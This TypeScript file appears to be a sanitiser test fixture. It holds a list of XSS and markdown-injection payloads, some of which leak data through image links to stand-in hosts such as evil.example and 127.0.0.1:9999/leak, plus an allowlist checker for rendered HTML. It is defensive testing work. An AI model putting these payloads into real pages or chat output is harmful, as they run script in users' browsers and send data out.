/** Texts a model could be talked into writing, after sections 101 to 111 of our attack list. */
export const HOSTILE_TEXTS: readonly string[] = [
  "<script>alert(1)</script>",
  "text <script src=//evil.example/x.js></script> text",
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)><circle r=9></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<a href=javascript:alert(1)>x</a>",
  "<style>@import 'http://evil.example/x.css';</style>",
  "<base href=//evil.example><form action=//evil.example><input name=q></form>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  "<ScRiPt>alert(1)</sCrIpT> <scr<script>ipt>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "<div><p unclosed <b",
  "</textarea></title></div><script>alert(1)</script>",
  "<!-- never closed",
  "<![CDATA[ <script>alert(1)</script>",
  "```html\n<script>alert(1)</script>\n",
  "[x](javascript:alert(1))",
  "[x](JaVa\tscript:alert(1)) [y](java&#10;script:alert(1))",
  "[x](&#106;avascript:alert(1)) [y](&#x6A;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>) [y](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:http://evil.example/1)",
  "[x]\n\n[x]: javascript:alert(1)",
  "<javascript:alert(1)> <data:text/html,x> <http://fine.example>",
  "[x](//evil.example) [y](/settings) [z](#here) [w](\\\\evil.example)",
  "[bank](http://bank.example@evil.example) http://user:word@evil.example",
  "[x](http://evil.example 'title \" onmouseover=\"alert(1)')",
  '[x](http://evil.example/"onmouseover="alert(1))',
  "![a](http://127.0.0.1:9999/leak?d=secret)",
  "![a][b]\n\n[b]: http://127.0.0.1:9999/leak",
  "[![a](http://127.0.0.1:9999/leak)](http://evil.example)",
  '<picture><source srcset="http://127.0.0.1:9999/leak"></picture><video poster="http://127.0.0.1:9999/x">',
  '<div style="background:url(http://127.0.0.1:9999/leak)">x</div>',
  "![a](data:image/svg+xml,<svg onload=alert(1)>) ![b](data:image/svg+xml;base64,PHN2Zz4=)",
  "![a](data:image/png;base64,iVBORw0KGgo=)",
  "```mermaid\ngraph TD; A-->B; click A \"javascript:alert(1)\"\n```",
  '```mermaid\n%%{init:{"securityLevel":"loose"}}%%\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
  "$\\href{javascript:alert(1)}{x}$ $$\\htmlData{a=b}{x}$$ $\\includegraphics{http://127.0.0.1:9999/x}$",
  "$$\n\\def\\a{\\a\\a}\\a\n$$",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "<a id=config name=__next></a><form id=documentElement>",
  '<div style="position:fixed;inset:0">over all</div>',
  "| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "- [x] <script>alert(1)</script>\n- [ ] [y](javascript:alert(1))",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
];

const PLAIN_TAGS =
  "a blockquote br button code del details div em h2 h3 h4 h5 h6 hr img input li mark ol p path pre rect span strong sub summary sup svg table tbody td th thead tr ul";

const ALLOWED_TAGS = new Set(PLAIN_TAGS.split(" "));
const ALLOWED_ATTRIBUTE =
  /^(?:aria-[a-z]+|data-[a-z]+|role|class|tabindex|start|scope|type|checked|disabled|readonly|alt|loading|decoding|open|hidden|id|href|src|target|rel|width|height|viewbox|x|y|rx|ry|d|fill|stroke|stroke-[a-z]+|xmlns)$/;
const TAG = /<\/?([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi;

/** What in a piece of rendered HTML has no business there. Empty for a page that is safe. */
export function findUnsafe(html: string): string[] {
  const found: string[] = [];
  const rest = html.replaceAll(TAG, (_tag, name: string, attributes: string) => {
    if (!ALLOWED_TAGS.has(name.toLowerCase())) found.push(`element ${name}`);
    for (const [, attribute = "", value = ""] of attributes.matchAll(/\s+([a-z-]+)(?:="([^"]*)")?/gi)) {
      if (!ALLOWED_ATTRIBUTE.test(attribute.toLowerCase())) found.push(`attribute ${attribute}`);
      if (attribute === "href" && !/^(?:https?:\/\/(?![^/]*@)|mailto:|#)/.test(value)) found.push(`href ${value}`);
      if (attribute === "src" && !/^data:image\/(?:png|jpeg|webp|gif);base64,/.test(value)) found.push(`src ${value}`);
    }
    if (/\shref="https?:/.test(attributes) && !attributes.includes('rel="noopener noreferrer"')) found.push("link without rel");
    return "";
  });
  if (/[<>]/.test(rest)) found.push(`markup left over: ${rest.slice(0, 80)}`);
  return found;
}
